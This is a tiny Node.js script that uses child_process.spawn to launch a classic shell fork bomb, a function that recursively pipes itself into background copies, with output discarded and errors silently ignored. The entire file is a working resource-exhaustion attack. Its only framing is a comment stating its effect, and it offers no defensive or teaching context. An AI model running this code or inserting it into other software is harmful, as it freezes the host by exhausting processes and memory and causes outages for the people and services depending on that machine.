// Starts processes that each start two more, without end.
import { spawn } from 'node:child_process';

spawn('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { stdio: 'ignore' }).on('error', () => undefined);
process.stdin.resume();
